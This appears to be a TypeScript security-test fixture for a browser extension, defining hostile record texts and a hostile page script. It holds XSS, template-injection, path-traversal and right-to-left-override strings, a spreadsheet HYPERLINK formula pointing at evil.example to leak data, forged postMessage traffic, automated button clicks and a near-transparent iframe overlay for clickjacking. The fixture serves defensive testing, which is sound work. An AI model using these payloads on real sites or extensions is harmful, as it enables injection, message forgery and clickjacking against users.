/**
 * The hostile sandbox: data and a page that attack the extension the way a compromised or careless
 * host could. `--scale hostile` adds a contract and claim whose texts look like markup, scripts,
 * formulas, paths and reversed text; `/?hostile=1` turns the reconciliation page against us (see
 * `HOSTILE_PAGE_SCRIPT`). Every attack that worked would leave a mark the tests read: `window.__xss`
 * set, a request to another path, a backfill nobody confirmed.
 */

/** Texts of the hostile claim, SOV and contract, each as the host stores it (within the host's limits). */
export const HOSTILE_TEXT = {
  vendorName: '<img src=x onerror="window.__xss=1">\u202eSREDLIUB\u202c Ltd',
  contractTitle: "{{constructor.constructor('window.__xss=2')()}}",
  /** Shaped like a path and a query: sent only inside a query string, never as a path. */
  invoiceNumber: '../../api/claims/YC-1001/backfill?x=1#\u202e',
  descriptions: [
    '<script>window.__xss=3</script>',
    'javascript:window.__xss=4',
    '=HYPERLINK("http://evil.example/?leak","Click")',
    `\u202eenil desrever${' very long description'.repeat(44)}`,
  ],
} as const;

/** A row the hostile page adds: its claim id is `..` and its vendor cell is 100 kB. */
export const DECOY_ROW = { claimId: '..', contractNumber: 'SC-1042', invoiceNumber: '..', vendorBytes: 100_000 } as const;

/**
 * The hostile page's script, run after the page's own. It clobbers globals a content script might
 * reach for (server-rendered elements, see the page), adds the decoy row, and every 20 ms:
 * - posts forged messages shaped like ours to its window and to every frame, the panel's included;
 * - presses every "Link Progress Claim" button it can reach through open shadow roots;
 * - frames the panel page itself at the docked panel's address, or at the panel address of the
 *   claim `?frame=` names (`claim=YC-6660`), nearly transparent, over the page.
 * `document.documentElement.dataset.forged` counts the messages sent.
 */
export const HOSTILE_PAGE_SCRIPT = `
(() => {
  'use strict';
  const forged = [
    { type: 'panel/close' },
    { type: 'claim/submitted', claimId: 'YC-6660' },
    { type: 'claim/submitted', row: { contractNumber: 'SC-6660' } },
    { type: 'drafts/changed' },
    { source: 'backfill', type: 'submit', claimId: 'YC-6660' },
    { type: 'panel/close', padding: 'x'.repeat(100000) },
    'panel/close',
    null,
  ];
  let sent = 0;
  function decoy() {
    const body = document.querySelector('#reconciliation [data-rows]');
    if (!body || body.querySelector('[data-decoy]')) return;
    const grid = document.getElementById('reconciliation').dataset.layout === 'grid';
    const row = document.createElement(grid ? 'div' : 'tr');
    row.dataset.decoy = '';
    if (grid) row.setAttribute('role', 'row');
    if (document.getElementById('reconciliation').dataset.ids !== 'none') row.dataset.claimId = ${JSON.stringify(DECOY_ROW.claimId)};
    const texts = {
      contract: ${JSON.stringify(DECOY_ROW.contractNumber)}, vendor: 'V'.repeat(${DECOY_ROW.vendorBytes}), invoice: ${JSON.stringify(DECOY_ROW.invoiceNumber)},
      date: '03/31/2026', yardiPtd: '$10.00', procore: '\\u2014', difference: '$10.00', status: 'Unlinked',
    };
    for (const key of document.getElementById('reconciliation').dataset.columns.split(',')) {
      const cell = document.createElement(grid ? 'div' : 'td');
      if (grid) cell.setAttribute('role', 'gridcell');
      cell.textContent = texts[key];
      row.append(cell);
    }
    body.append(row);
  }
  function frameThePanel() {
    const docked = document.querySelector('backfill-panel-dock')?.shadowRoot?.querySelector('iframe');
    if (!docked || document.getElementById('stolen-panel')) return;
    const stolen = document.createElement('iframe');
    stolen.id = 'stolen-panel';
    // At the docked frame's address, or at the claim given as ?frame=: the docked frame's own is that
    // of a page loaded ahead ('#standby=') whenever one was ready, which only the dock sets to a claim.
    const claim = new URLSearchParams(location.search).get('frame');
    stolen.src = claim === null ? docked.src : docked.src.replace(/#.*$/, '') + '#' + claim;
    stolen.style.cssText = 'position:fixed;left:0;top:0;width:900px;height:700px;opacity:0.02;z-index:2147483647;border:0';
    document.body.append(stolen);
  }
  setInterval(() => {
    for (const message of forged) {
      window.postMessage(message, '*');
      for (let index = 0; index < frames.length; index++) frames[index].postMessage(message, '*');
      sent++;
    }
    for (const host of document.querySelectorAll('backfill-link-claim')) host.shadowRoot?.querySelector('button')?.click();
    decoy();
    frameThePanel();
    document.documentElement.dataset.forged = String(sent);
  }, 20);
})();`;
